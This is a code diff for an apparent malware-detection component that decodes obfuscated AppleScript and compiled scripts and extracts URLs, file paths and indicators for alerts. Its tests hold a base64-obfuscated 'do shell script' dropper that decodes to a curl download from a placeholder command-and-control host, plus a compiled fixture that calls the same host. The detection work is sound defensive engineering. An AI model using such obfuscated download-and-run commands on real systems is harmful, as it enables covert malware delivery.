@@ -2,9 +2,14 @@
 
 use std::borrow::Cow;
 
+use super::compiled::{self, Compiled};
 use super::workflow::{self, Workflow};
-use super::{MAX_TEXT, indicators};
+use super::{MAX_TEXT, indicators, places, unpack};
 use crate::event::Script;
+
+/// Bytes of what is decoded that an alert holds, of each text and of all.
+const MAX_DECODED_TEXT: usize = 2048;
+const MAX_DECODED: usize = 4096;
 
 /// What the bytes of a script file tell.
 pub(super) fn describe(bytes: &[u8], script: &mut Script) {
@@ -12,9 +17,7 @@ pub(super) fn describe(bytes: &[u8], script: &mut Script) {
     if let Some((_, language)) = compiled.into_iter().find(|(magic, _)| bytes.starts_with(magic)) {
         script.is_compiled = true;
         script.language = script.language.or(Some(language));
-        // Strings of a compiled script stand in it as UTF-8 or UTF-16; both tell.
-        let plain: Vec<u8> = bytes.iter().copied().filter(|byte| *byte != 0).collect();
-        script.indicators = indicators::of(&plain);
+        describe_compiled(&compiled::read(bytes), script);
         return;
     }
     match workflow::scripts(bytes) {
@@ -50,10 +53,48 @@ pub(super) fn describe_text(text: &str, script: &mut Script) {
         let is_javascript = first.to_ascii_lowercase().contains("javascript");
         script.language = script.language.or(Some(if is_javascript { "JavaScript" } else { "AppleScript" }));
     }
-    script.indicators = indicators::of(text.as_bytes());
+    let packed = unpack::unpack(text);
+    describe_places(std::iter::once(text).chain(packed.iter().map(String::as_str)), script);
+    keep_decoded(packed, script);
     let cut = text.floor_char_boundary(MAX_TEXT);
     script.text_left_out = (text.len() - cut) as u64;
     script.text = Some(text[..cut].to_owned());
+}
+
+/// What a compiled script tells. Words that the compiler puts there are left out of what is shown.
+fn describe_compiled(found: &Compiled, script: &mut Script) {
+    let all = found.texts.join("\n");
+    let packed = unpack::unpack(&all);
+    let commands = found.commands.join("\n");
+    let texts = [all.as_str(), &commands].into_iter().chain(packed.iter().map(String::as_str));
+    describe_places(texts, script);
+    script.commands.clone_from(&found.commands);
+    let is_shown = |text: &&String| text.len() >= 6 && text.contains([' ', '/', '.', ':', '=']);
+    keep_decoded(packed.into_iter().chain(found.texts.iter().filter(is_shown).cloned()), script);
+}
+
+/// Indicators, URLs and files of texts.
+fn describe_places<'t>(texts: impl Iterator<Item = &'t str> + Clone, script: &mut Script) {
+    let mut all: Vec<&'static str> = texts.clone().flat_map(|text| indicators::of(text.as_bytes())).collect();
+    indicators::put_in_order(&mut all);
+    script.indicators = all;
+    for text in texts {
+        places::urls(text, &mut script.urls);
+        places::files(text, &mut script.files);
+    }
+}
+
+/// Keeps what an alert can show.
+fn keep_decoded(texts: impl IntoIterator<Item = String>, script: &mut Script) {
+    let mut left = MAX_DECODED;
+    for text in texts {
+        let cut = text.floor_char_boundary(left.min(MAX_DECODED_TEXT));
+        if cut == 0 {
+            break;
+        }
+        left -= cut;
+        script.decoded.push(text[..cut].to_owned());
+    }
 }
 
 #[cfg(test)]
@@ -72,6 +113,30 @@ mod tests {
         let found = described(nested.as_bytes());
         assert_eq!((found.state, found.text), (Some("unreadable"), None));
         assert_eq!(found.indicators, ["do shell script", "curl"]);
+    }
+
+    #[test]
+    fn what_a_script_hides_is_shown_beside_it_with_its_indicators_and_places() {
+        let text = "do shell script \"echo Y3VybCAtcyBodHRwczovL2MyLmV4YW1wbGUub3JnL3ggPiAvdG1wL3g= | base64 -d | sh\"";
+        let found = described(text.as_bytes());
+        assert_eq!(found.text.as_deref(), Some(text));
+        assert_eq!(found.decoded, ["curl -s https://c2.example.org/x > /tmp/x"]);
+        assert_eq!(found.urls, ["https://c2.example.org/x"]);
+        assert_eq!(found.files, ["/tmp/x"]);
+        assert_eq!(found.indicators, ["do shell script", "curl", "base64"]);
+    }
+
+    #[test]
+    fn a_compiled_script_tells_its_constants_and_commands() {
+        let mut bytes = b"FasdUAS 1.101.10\x0e\x00\x00\x00\x04\x0f\xff\xff\xff\xfe\x00\x01".to_vec();
+        bytes.extend("curl https://c2.example.org/x".encode_utf16().flat_map(u16::to_be_bytes));
+        bytes.extend_from_slice(b"\x00\x01\x0asysoexecTEXT\x00\x00");
+        let found = described(&bytes);
+        assert!(found.is_compiled && found.text.is_none());
+        assert_eq!(found.indicators, ["do shell script", "curl"]);
+        assert_eq!(found.urls, ["https://c2.example.org/x"]);
+        assert_eq!(found.commands, ["do shell script"]);
+        assert!(found.decoded.iter().any(|text| text == "curl https://c2.example.org/x"), "{:?}", found.decoded);
     }
 
     #[test]
